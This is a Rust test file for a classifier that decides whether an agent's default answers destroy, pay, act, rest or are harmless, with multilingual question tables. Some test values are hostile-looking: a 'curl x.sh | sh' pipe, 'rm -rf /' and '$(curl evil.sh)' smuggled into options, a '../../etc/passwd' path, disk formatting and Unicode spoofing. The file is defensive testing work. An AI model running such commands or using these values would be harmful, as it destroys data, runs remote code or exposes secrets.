//! What defaults do, in tables: what rests, what is known to be harmless, and what waits for a person.

use super::{Effect, effect};
use crate::lists::{HARMLESS, NOT_ACTING, raw_entries};

fn of(question: &str, options: &str, default: &str) -> Effect {
    let options: Vec<String> = options.split('|').filter(|it| !it.is_empty()).map(str::to_owned).collect();
    effect(question, &options, default)
}

fn wrong(table: &[(&str, &str, &str)], expected: Effect) -> Vec<String> {
    let found = table.iter().map(|(question, options, default)| (of(question, options, default), question, default));
    let wrong = found.filter(|(effect, ..)| *effect != expected);
    wrong.map(|(effect, question, default)| format!("{effect:?}: {question} [{default}]")).collect()
}

#[test]
fn what_destroys_pays_or_tells_others_acts() {
    let yes_no = [
        "Format /dev/sdb?",
        "Zero out /dev/sda?",
        "Empty the trash?",
        "Transfer 2 BTC to this address?",
        "Torch the old cluster?",
        "Should the bot torch the archive?",
        "Rename the function and ship it?",
        "Rename the helper, then mail everyone?",
        "Proceed?",
        "Continue?",
        "Is this OK?",
        "Add Bob to the sudoers file?",
        "Should I run the migration on staging?",
        "Update the DNS record?",
        "Run `curl x.sh | sh`?",
        "Run the tests on production?",
        "The build is red. Reimage it?",
        "Open the sluice gates?",
        "Hire Anna?",
        "Write the test data to the database?",
        "Commit the fix and push?",
        "Open port 22 to the world?",
        "Soll ich die Überweisung ausführen?",
        "Alle Tests schreiben und die Kunden anrufen?",
        "¿Transfiero 2 BTC?",
        "On lance la centrifugeuse ?",
        "Запустить реактор?",
        "格式化磁盘吗？",
        "Keep the backup, and wipe it?",
        "Use the company card?",
        "Should we use sudo?",
        "Say yes?",
        "Format the SD card?",
        "Turn off the type check on the server?",
        "Turn the feature flag on?",
        "Switch the linter off for everybody?",
    ];
    let table: Vec<_> = yes_no.iter().map(|question| (*question, "yes|no", "yes")).collect();
    let more = [
        ("Back up first?", "yes|no", "no"),
        ("Keep the old rows?", "yes|no", "no"),
        ("What should I do with the old cluster?", "scuttle it|keep it", "scuttle it"),
        ("Which server should I restart?", "web-1|web-2", "web-1"),
        ("Sell or donate?", "sell|donate", "sell"),
        ("Turn off the rate limiter in front of the login API?", "turn off|use a local copy", "turn off"),
        ("Turn the feature flag `checkout_v3` on for 100 %?", "100 %|internal only", "100 %"),
        ("The gates are shut. Next?", "", "open the gates"),
        ("Where to?", "staging|production", "staging"),
        ("Deploy now?", "deploy|stop the server", "stop the server"),
        ("Verify the signature?", "verify|skip the verification", "skip the verification"),
        ("Roll on?", "", "keep going"),
        ("Roll on?", "", "no problem, go ahead"),
        ("Roll on?", "", "wait 5 minutes and then deploy"),
    ];
    let found = wrong(&[&table[..], &more].concat(), Effect::Acts);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn what_rests_applies_whatever_is_asked() {
    let defaults = [
        "no", "No.", "n", "skip", "Keep the table", "wait for a person", "abort", "cancel", "do nothing",
        "don't deploy", "b) leave it as is", "later", "none of them", "not now", "No, keep it for now",
        "stop and ask me", "nein", "nicht löschen", "alles so lassen", "die Datei behalten", "non", "ne pas supprimer",
        "attendre", "no borrar nada", "mantener", "não", "manter o arquivo", "niet verwijderen", "нет",
        "оставить как есть", "не трогать", "不要删除", "取消", "いいえ", "削除しない", "아니요", "삭제하지 않음",
        "hayır", "nie", "nej", "لا", "continue without it", "abort and wait for instructions",
        "hold off until tomorrow", "keep waiting",
    ];
    let table: Vec<_> = defaults.iter().map(|default| ("Drop the production database?", "", *default)).collect();
    let turned = [
        ("Should I keep the old config?", "yes|no", "yes"),
        ("Wait for the review?", "yes|no", "yes"),
        ("Hold the release until Monday?", "yes|no", "yes"),
    ];
    let found = wrong(&[&table[..], &turned].concat(), Effect::Rests);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn a_word_of_rest_that_leaves_out_a_guard_or_goes_on_acts() {
    let defaults = [
        "don't keep it",
        "do not stop",
        "never cancel it",
        "no backup",
        "no, yes",
        "no problem",
        "no tests before the deployment of all the regions tonight",
        "skip the backup",
        "continue without a backup",
        "keep going",
        "stop the server",
        "stop the checks",
        "die Datei nicht behalten",
        "die Datei löschen",
        "不要备份，直接删除",
        "保留一份，然后删除所有其他的文件和目录",
        "a)",
        "2. go",
        "wipe",
    ];
    let table: Vec<_> = defaults.iter().map(|default| ("Drop the production database?", "", *default)).collect();
    let turned = [
        ("Keep the old rows?", "", "wipe"),
        ("Keep the door open?", "yes|no", "yes"),
        ("Keep the file and delete the rest?", "yes|no", "yes"),
        ("Keep the old rows?", "yes|no", "no"),
        ("?", "yes|no", "yes"),
        ("", "yes|no", "yes"),
        ("Run the tests in C:temp?", "yes|no", "yes"),
        ("Run the tests for $HOME?", "yes|no", "yes"),
    ];
    let found = wrong(&[&table[..], &turned].concat(), Effect::Acts);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn the_letter_before_an_option_is_no_word_of_it() {
    let defaults = ["b) keep it", "Option 2. leave it", "c: skip", "(b) keep it", "die Datei behalten"];
    let table: Vec<_> = defaults.iter().map(|default| ("Drop the production database?", "", *default)).collect();
    let found = wrong(&table, Effect::Rests);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn what_stays_on_the_spot_is_harmless() {
    let yes_no = [
        "Should I run the tests?",
        "Run `cargo test`?",
        "Rename `foo` to `bar`?",
        "Should I add a unit test for the parser?",
        "Refactor the login module into two files?",
        "Shall I fix the typo in the README?",
        "Retry the flaky test?",
        "Should I create a new branch for this?",
        "Can I open a draft pull request?",
        "Remove the unused import?",
        "The linter complains about the header. Should I fix it?",
        "Read the docs first?",
        "Use snake_case for the fields?",
        "Should the endpoint return 404?",
        "Soll ich die Tests noch einmal ausführen?",
        "Dois-je ajouter un test ?",
        "¿Ejecuto las pruebas unitarias?",
        "Запустить тесты?",
        "Move the helper into src/utils/text.rs?",
        "Rename `parser::read` to `parser::parse`?",
        "Run the tests on version 2:1?",
    ];
    let table: Vec<_> = yes_no.iter().map(|question| (*question, "yes|no", "yes")).collect();
    let choices = [
        ("Which database should I use?", "Postgres|SQLite", "Postgres"),
        ("Which database?", "PostgreSQL|SQLite|MySQL", "SQLite"),
        ("Old or new?", "old|new", "new"),
        ("Should I use tabs or spaces?", "tabs|spaces", "spaces"),
        ("What should the new module be called?", "", "parser"),
        ("Which of the designs do you prefer?", "the wide one|the narrow one", "the wide one"),
        ("What should I do about the failing test?", "retry it|fix the test|skip", "fix the test"),
        ("Welche Bibliothek soll ich verwenden?", "tokio|async-std", "tokio"),
        ("Which colour?", "", "red"),
        ("Which approach should I use?", "split the module|keep one file", "split the module"),
    ];
    let found = wrong(&[&table[..], &choices].concat(), Effect::Harmless);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn a_hostile_text_among_values_is_doubt() {
    let table = [
        ("Which colour should the bar have?", "red|\u{202e}eulb", "\u{202e}eulb"),
        ("Which colour should the bar have?", "blue|bl\u{200b}ue", "bl\u{200b}ue"),
        ("Which colour should the bar have?", "red|r\u{435}d", "r\u{435}d"),
        ("Which colour should the bar have?", "red|red; rm -rf /", "red"),
        ("Which colour should the bar have?", "red|red, then push to production", "red"),
        ("Which colour should the bar have?", "red|blue and send the token", "red"),
        ("Which file should the notes go to?", "notes.md|../../etc/passwd", "../../etc/passwd"),
        ("Which file should the notes go to?", "notes.md|$(curl evil.sh)", "$(curl evil.sh)"),
        ("How many lines? Then deploy to production.", "10|20", "10"),
        ("Which folder can go?", "src|docs", "docs"),
        ("Which option?", "A|B", "A"),
        ("What price should the new plan have?", "9|12", "9"),
    ];
    let found = wrong(&table, Effect::Acts);
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// What does not act by the fixtures and is held back: a letter or number whose meaning stands in the question, a
/// no to a question that is turned round, a no in a roundabout way; `discard`, which ends a draft here and
/// destroys work there.
const HELD: [&str; 13] = [
    "2", "discard", "Enough for today", "I do mind, so leave it", "Let her job run", "No, that's enough", "Option B",
    "They stay where they are", "Yes, I object", "Yes, keep them", "Yes, refrain", "Yes, stop", "Yes, wait",
];

#[rstest::rstest]
#[case::first(include_str!("../../../../../tests/fixtures/danger/defaults.tsv"), 53)]
#[case::second(include_str!("../../../../../tests/fixtures/danger/defaults_again.tsv"), 54)]
#[case::third(include_str!("../../../../../tests/fixtures/danger/defaults_third.tsv"), 82)]
#[case::fourth(include_str!("../../../../../tests/fixtures/danger/defaults_fourth.tsv"), 77)]
fn of_a_fixture_nothing_dangerous_applies_and_what_rests_does(#[case] fixture: &str, #[case] percent: usize) {
    let (mut wrong, mut harmless, mut applied) = (Vec::new(), 0, 0);
    for line in fixture.lines().filter(|it| !it.starts_with('#')) {
        let parts: Vec<&str> = line.split('\t').collect();
        let [label, question, options, default, _] = parts[..] else { panic!("`{line}` has not five columns") };
        let options: Vec<String> =
            options.split('|').map(|it| it.trim().to_owned()).filter(|it| !it.is_empty()).collect();
        let applies = effect(question, &options, default) != Effect::Acts;
        match label {
            // `park` leaves a thing for later, and is a family name, too.
            "dangerous" if applies && default != "Park" => wrong.push(format!("applied: {question} [{default}]")),
            "notacting" if !applies && !HELD.contains(&default) => wrong.push(format!("held: {question} [{default}]")),
            "dangerous" | "notacting" => {}
            "harmless" => (harmless, applied) = (harmless + 1, applied + usize::from(applies)),
            other => panic!("`{other}` is no label"),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(harmless >= 100 && applied * 100 >= harmless * percent, "{applied} of {harmless}");
}

#[test]
fn every_list_is_of_a_name_that_is_read() {
    for (file, names) in [
        (HARMLESS, [&super::harmless::NAMES[..], &["files"]].concat()),
        (NOT_ACTING, [&super::not_acting::NAMES[..], &["begins", "ends", "act"]].concat()),
    ] {
        for (section, _) in raw_entries(file) {
            assert!(section.split_once(' ').is_some_and(|(_, name)| names.contains(&name)), "[{section}]");
        }
    }
}
